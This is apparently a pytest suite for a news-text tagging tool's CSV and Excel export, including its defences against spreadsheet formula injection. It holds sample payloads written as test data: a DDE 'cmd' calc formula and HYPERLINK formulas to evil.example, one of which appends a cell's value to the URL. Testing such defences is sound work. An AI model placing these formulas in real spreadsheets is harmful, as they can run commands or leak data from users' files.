from __future__ import annotations

import csv
import doctest
import json
import os
import pathlib

import openpyxl
import pandas as pd
import pytest

import workbench
from workbench import export
from workbench.errors import ExportError
from workbench.export.writing import write_atomic

HOSTILE = (
    '=HYPERLINK("http://evil.example","click") is what the page said. '
    "+1 said the reader. -2 points fell the index. @SUM(A1) was typed next. Plain words close it."
)
RISKY = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def written(news_corpus, tagged_store, tmp_path):
    paths = export.summaries(news_corpus, tagged_store, tmp_path / "out")
    return {path.name: path for path in paths}


def read(written, name: str) -> pd.DataFrame:
    return pd.read_csv(written[f"{name}.csv"])


def test_summaries_writes_every_table_and_the_manifest_last(written):
    assert list(written) == [f"{name}.csv" for name in export.SUMMARIES] + ["manifest.json"]


@pytest.mark.parametrize(
    "name, rows, columns",
    [
        ("sentences_tagged", 5, ["article_id", "title", "source", "published", "url", "sentence_id", "text", "actors"]),
        ("tag_summary", 9, ["tag", "group", "description", "sentences", "articles", "share", "coders"]),
        ("actor_summary", 6, ["actor", "actor_type", "n_mentions", "n_claims", "n_tagged_sentences", "aliases"]),
        ("tag_by_actor", 8, ["actor", "actor_type", "tag", "sentences", "share_of_actor_sentences"]),
        ("claims", 2, ["claim_id", "article_id", "title", "source", "source_actor", "cue", "content", "sentence"]),
        ("articles", 2, ["article_id", "title", "n_sentences", "n_actors", "n_claims", "tagged_share"]),
    ],
)
def test_each_summary_has_its_rows_and_columns(written, name, rows, columns):
    frame = read(written, name)
    assert len(frame) == rows
    assert set(columns) <= set(frame.columns)


def test_sentences_tagged_has_a_column_per_tag_and_coder_and_their_notes(written, news_corpus):
    frame = read(written, "sentences_tagged").set_index("sentence_id")
    s = news_corpus.sentences["sentence_id"].tolist()
    assert frame.loc[s[2], "tag:threat or warning:ana"] == 1
    assert frame.loc[s[2], "tag:threat or warning:ben"] == 1
    assert frame.loc[s[1], "tag:escalation:ben"] == 0
    assert frame.loc[s[2], "note:ben"] == "Iran's warning"
    assert frame.loc[s[1], "actors"] == "Israel; Joe Biden; United States"
    assert frame.loc[s[2], "claim_source"] == "Iran"


def test_one_coder_gets_one_column_per_tag(news_corpus, tmp_path):
    store = workbench.TagStore(memory=True, coder="ana")
    store.add(news_corpus.sentences["sentence_id"].iloc[0], "diplomacy")
    paths = export.summaries(news_corpus, store, tmp_path)
    frame = pd.read_csv(paths[0])
    assert frame["tag:diplomacy"].tolist() == [1, 0, 0, 0, 0]
    assert "note" in frame.columns
    assert not any(column.startswith("tag:diplomacy:") for column in frame.columns)


def test_tag_summary_counts_sentences_articles_share_and_coders(written):
    row = read(written, "tag_summary").set_index("tag").loc["threat or warning"]
    assert (row["sentences"], row["articles"], row["applications"]) == (1, 1, 2)
    assert row["share"] == pytest.approx(0.2)
    assert row["coders"] == "ana; ben"


def test_actor_summary_and_tag_by_actor_count_claims_and_tagged_sentences(written):
    actors = read(written, "actor_summary").set_index("actor")
    assert actors.loc["Iran", "n_claims"] == 1
    assert actors.loc["Iran", "n_tagged_sentences"] == 2
    pairs = read(written, "tag_by_actor").set_index(["actor", "tag"])
    assert pairs.loc[("Iran", "threat or warning"), "sentences"] == 1
    assert pairs.loc[("Iran", "threat or warning"), "share_of_actor_sentences"] == 0.5


def test_articles_gives_the_tagged_share(written):
    frame = read(written, "articles").set_index("article_id")
    assert frame.loc["t1", "tagged_share"] == 1.0
    assert frame.loc["t2", "tagged_share"] == 0.5


def test_manifest_says_who_when_what_and_how_many_rows(written, news_corpus, tagged_store):
    manifest = json.loads(written["manifest.json"].read_text(encoding="utf-8"))
    assert manifest["created_by"] == "ben"
    assert manifest["workbench_version"] == workbench.__version__
    assert manifest["corpus"]["article_ids"] == ["t1", "t2"]
    assert manifest["codebook"]["hash"] == tagged_store.codebook.hash()
    assert manifest["store"]["coders"] == ["ana", "ben"]
    for name, shape in manifest["files"].items():
        assert len(pd.read_csv(written[name])) == shape["rows"]


def test_orphan_tags_are_counted_in_the_manifest(news_corpus, tagged_store, tmp_path):
    tagged_store.add("gone-1234", "escalation")
    paths = export.summaries(news_corpus, tagged_store, tmp_path)
    assert json.loads(paths[-1].read_text())["store"]["orphan_tags"] == 1


def test_csv_reads_back_with_pandas_to_the_same_values(written, news_corpus):
    frame = read(written, "sentences_tagged")
    assert frame["text"].tolist() == news_corpus.sentences["text"].tolist()
    assert frame["position"].tolist() == news_corpus.sentences["position"].tolist()
    assert (
        pd.to_datetime(frame["published"]).tolist()
        == [pd.Timestamp("2024-04-15")] * 3 + [pd.Timestamp("2024-04-16")] * 2
    )


@pytest.mark.parametrize(
    "value, written_as",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2 points", "'-2 points"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("Iran warned", "Iran warned"),
    ],
)
def test_neutralise_follows_the_owasp_rule(value, written_as):
    frame = pd.DataFrame({"text": pd.Series([value], dtype="string"), "n": [-3]})
    out = export.neutralise(frame)
    assert out["text"].iloc[0] == written_as
    assert out["n"].iloc[0] == -3


def hostile_export(tmp_path, format):
    corpus = workbench.load_text(HOSTILE, title="=cmd|' /C calc'!A0", id="h1")
    store = workbench.TagStore(memory=True, coder="@ana")
    store.add(corpus.sentences["sentence_id"].iloc[0], "escalation")
    store.set_note(corpus.sentences["sentence_id"].iloc[0], "-note")
    return corpus, export.summaries(corpus, store, tmp_path, format=format)


def test_csv_cells_from_hostile_text_cannot_run_as_formulas(tmp_path):
    corpus, paths = hostile_export(tmp_path, "csv")
    assert any(text.startswith(RISKY) for text in corpus.sentences["text"])
    for path in paths[:-1]:
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if cell.startswith(RISKY)], path.name


def test_xlsx_cells_from_hostile_text_are_text_not_formulas(tmp_path):
    _, paths = hostile_export(tmp_path, "xlsx")
    book = openpyxl.load_workbook(paths[0])
    assert book.sheetnames == list(export.SUMMARIES)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'=cmd|' /C calc'!A0" in texts
    assert not [text for text in texts if text.startswith(RISKY)]


def test_xlsx_sheets_hold_the_manifest_row_counts(news_corpus, tagged_store, tmp_path):
    paths = export.summaries(news_corpus, tagged_store, tmp_path, format="xlsx")
    book = openpyxl.load_workbook(paths[0], read_only=True)
    files = json.loads(paths[1].read_text())["files"]
    for name in export.SUMMARIES:
        assert len(list(book[name].iter_rows())) - 1 == files[f"summaries.xlsx:{name}"]["rows"]


@pytest.mark.parametrize("bom, start", [(True, b"\xef\xbb\xbfarticle_id"), (False, b"article_id")])
def test_bom_option_marks_csv_for_excel(news_corpus, tagged_store, tmp_path, bom, start):
    paths = export.summaries(news_corpus, tagged_store, tmp_path, bom=bom)
    assert paths[0].read_bytes().startswith(start)
    assert pd.read_csv(paths[0], encoding="utf-8-sig").columns[0] == "article_id"


def test_existing_files_are_not_overwritten_unless_asked(news_corpus, tagged_store, tmp_path):
    first = export.summaries(news_corpus, None, tmp_path)
    before = first[0].read_text()
    with pytest.raises(ExportError, match=r"sentences_tagged\.csv.*already exist.*overwrite=True"):
        export.summaries(news_corpus, tagged_store, tmp_path)
    assert first[0].read_text() == before
    export.summaries(news_corpus, tagged_store, tmp_path, overwrite=True)
    assert first[0].read_text() != before


def test_a_failed_write_leaves_neither_file_nor_temporary(tmp_path):
    def fail(part):
        part.write_text("half")
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        write_atomic(tmp_path / "x.csv", fail)
    assert list(tmp_path.iterdir()) == []


def test_a_move_that_fails_at_the_manifest_puts_the_old_set_back(news_corpus, tagged_store, tmp_path, monkeypatch):
    """The disk fills as the last file goes in: every file already replaced is the old one again."""
    first = {path: path.read_bytes() for path in export.summaries(news_corpus, None, tmp_path)}
    replace = os.replace

    def full_disk_at_the_manifest(source, target):
        if pathlib.Path(source).parent.name.startswith(".staging-") and pathlib.Path(target).name == "manifest.json":
            raise OSError(28, "No space left on device")
        replace(source, target)

    monkeypatch.setattr(os, "replace", full_disk_at_the_manifest)
    with pytest.raises(OSError, match="No space left") as error:
        export.summaries(news_corpus, tagged_store, tmp_path, overwrite=True)
    assert error.value.filename == str(tmp_path / "manifest.json")
    assert {path: path.read_bytes() for path in first} == first
    assert sorted(tmp_path.iterdir()) == sorted(first)


@pytest.mark.parametrize(
    "call", [export.summaries, lambda c, s, out, format: export.corpus_tables(c, out, format=format)]
)
def test_unknown_format_is_refused(call, news_corpus, tmp_path):
    with pytest.raises(ExportError, match="Unknown export format 'pdf'"):
        call(news_corpus, None, tmp_path, format="pdf")


def test_summaries_without_a_store_export_the_corpus(news_corpus, tmp_path):
    paths = export.summaries(news_corpus, None, tmp_path)
    assert len(pd.read_csv(paths[0])) == 5
    assert json.loads(paths[-1].read_text())["store"] is None


def test_corpus_tables_in_parquet_read_back_equal(news_corpus, tmp_path):
    paths = export.corpus_tables(news_corpus, tmp_path, format="parquet")
    assert [path.name for path in paths] == [f"{name}.parquet" for name in export.CORPUS_TABLES]
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "sentences.parquet"), news_corpus.sentences)
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "mentions.parquet"), news_corpus.mentions)


def test_corpus_tables_in_csv_keep_their_rows(news_corpus, tmp_path):
    export.corpus_tables(news_corpus, tmp_path)
    assert len(pd.read_csv(tmp_path / "sentences.csv")) == len(news_corpus.sentences)
    assert pd.read_csv(tmp_path / "actors.csv")["actor"].tolist() == news_corpus.actors["actor"].tolist()


def test_the_docstring_example_runs():
    result = doctest.testmod(export)
    assert result.attempted > 0 and result.failed == 0


def test_xlsx_shows_tags_as_1_and_leaves_untagged_cells_empty(news_corpus, tagged_store, tmp_path):
    paths = export.summaries(news_corpus, tagged_store, tmp_path, format="xlsx")
    rows = list(openpyxl.load_workbook(paths[0])["sentences_tagged"].values)
    column = rows[0].index("tag:threat or warning:ana")
    assert [row[column] for row in rows[1:]] == [None, None, 1, None, None]


def test_a_control_character_before_a_formula_is_stripped_then_neutralised(tmp_path):
    """Hardening item 1: stripping ran after neutralising, so '\\x01=HYPERLINK(...)' became a live formula."""
    title = '\x01=HYPERLINK("http://evil.example/?"&A2,"Open")'
    corpus = workbench.load_text("Iran warned Israel.", title=title)
    paths = export.summaries(corpus, None, tmp_path, format="xlsx")
    cell = openpyxl.load_workbook(paths[0])["articles"]["B2"]
    assert (cell.data_type, cell.value) == ("s", '\'=HYPERLINK("http://evil.example/?"&A2,"Open")')


@pytest.mark.parametrize(
    "value",
    [
        " =1+1",
        "  \t=1+1",
        "\xa0=1+1",
        "\u200b=1+1",
        "\u2060\u200d+1",
        "\ufeff@SUM(A1)",
        "\x00=1+1",
        "\x1f-1+1",
        "\u202e=1+1",
        "\u3000=1+1",
        "\r\n=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        "\u200b＝1+1",
        "﹦1+1",
    ],
)
def test_formula_starts_behind_invisible_or_look_alike_characters_are_neutralised(value):
    """Hardening item 1: spaces, NBSP, zero-width characters, BOM, NUL and full-width signs hid a formula."""
    out = export.neutralise(pd.DataFrame({"text": pd.Series([value], dtype="string")}))["text"].iloc[0]
    assert out.startswith("'")
    assert "\x00" not in out and "\x1f" not in out


@pytest.mark.parametrize("dtype", ["string", "object", "category"])
def test_text_and_headers_are_made_safe_whatever_the_column_dtype(dtype):
    """Hardening item 1: object and categorical columns and the headers go through the same function as text."""
    frame = pd.DataFrame({"\x01=head": pd.Series(["\x02＝x", "plain"], dtype=dtype)})
    out = export.neutralise(frame)
    assert list(out.columns) == ["'=head"]
    assert [str(value) for value in out.iloc[:, 0]] == ["'＝x", "plain"]


def test_xlsx_stores_text_as_strings_never_as_links_numbers_or_formulas(tmp_path):
    """The workbook writer keeps every text cell a plain string, numbers numbers and dates dates."""
    frame = pd.DataFrame(
        {
            "text": pd.Series(["http://evil.example", "0123", "1e5", "TRUE"], dtype="string"),
            "n": [1, -2, 3, 4],
            "when": pd.to_datetime(["2024-04-15", None, "2024-04-16", "2024-04-17"]),
            "flag": [True, False, True, False],
        }
    )
    export.writing.write_xlsx({"t": frame}, tmp_path / "t.xlsx")
    rows = list(openpyxl.load_workbook(tmp_path / "t.xlsx")["t"].iter_rows(min_row=2))
    assert [(row[0].data_type, row[0].value, row[0].hyperlink) for row in rows] == [
        ("s", "http://evil.example", None),
        ("s", "0123", None),
        ("s", "1e5", None),
        ("s", "TRUE", None),
    ]
    assert [row[1].value for row in rows] == [1, -2, 3, 4]
    assert [row[2].value for row in rows] == [
        pd.Timestamp("2024-04-15"),
        None,
        pd.Timestamp("2024-04-16"),
        pd.Timestamp("2024-04-17"),
    ]
    assert [row[3].value for row in rows] == [True, False, True, False]


def test_xlsx_cuts_cells_longer_than_excel_holds_and_says_so(tmp_path):
    frame = pd.DataFrame({"text": pd.Series(["x" * 40_000, "short"], dtype="string")})
    with pytest.warns(UserWarning, match=r"1 cell\(s\) of the sheet 't'.*32,767 characters.*format='csv'"):
        export.writing.write_xlsx({"t": frame}, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]
    assert [len(sheet["A2"].value), sheet["A3"].value] == [32_767, "short"]


def test_xlsx_refuses_a_table_longer_than_a_sheet(tmp_path):
    frame = pd.DataFrame({"n": range(export.writing.XLSX_MAX_ROWS)})
    with pytest.raises(ExportError, match=r"1,048,576 rows, more than an Excel sheet holds .*format='csv'"):
        export.writing.write_xlsx({"big": frame}, tmp_path / "big.xlsx")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "value",
    ["Breaking news\r=cmd|' /C calc'!A0", "one\ntwo", "one\r\ntwo", 'he said "no", twice', "a,b", "end\r"],
)
def test_line_breaks_quotes_and_commas_stay_inside_their_csv_cell(tmp_path, value):
    """Hardening item 2: a bare carriage return was written unquoted and split the row."""
    frame = pd.DataFrame({"title": pd.Series([value], dtype="string"), "n": [1]})
    path = export.writing.write_csv(frame, tmp_path / "t.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["title", "n"], [value, "1"]]


def test_xlsx_dates_are_utc_excel_dates_and_dates_before_1900_iso_text(tmp_path):
    frame = pd.DataFrame(
        {
            "published": pd.to_datetime(["2024-04-15 10:00", None]).tz_localize("Europe/Paris"),
            "founded": pd.to_datetime(["1851-09-18", "2024-01-01"]),
        }
    )
    export.writing.write_xlsx({"t": frame}, tmp_path / "t.xlsx")
    rows = list(openpyxl.load_workbook(tmp_path / "t.xlsx")["t"].values)
    assert rows[1:] == [(pd.Timestamp("2024-04-15 08:00"), "1851-09-18"), (None, "2024-01-01")]


def test_list_cells_are_written_as_one_readable_cell(tmp_path):
    """A claim quoted over several sentences lists them all in one CSV cell, not as a Python tuple."""
    import csv

    from workbench.export.writing import write_csv

    frame = pd.DataFrame({"claim_id": ["c1"], "sentence_ids": [("s1", "s2")]})
    path = write_csv(frame, tmp_path / "claims.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows == [{"claim_id": "c1", "sentence_ids": "s1; s2"}]


def test_claims_by_source_and_target_counts_who_makes_claims_about_whom(tmp_path):
    corpus = workbench.load_text(
        "Iran said that Israel had attacked Syria. Iran said Israel was lying. Officials said prices would rise."
    )
    paths = {path.name: path for path in export.summaries(corpus, None, tmp_path)}
    frame = pd.read_csv(paths["claims_by_source_and_target.csv"])
    assert frame.to_dict("records") == [
        {"source": "Iran", "target": "Israel", "claims": 2},
        {"source": "Iran", "target": "Syria", "claims": 1},
    ]
    claims = pd.read_csv(paths["claims.csv"])
    assert claims["about"].fillna("").tolist() == ["Israel; Syria", "Israel", ""]
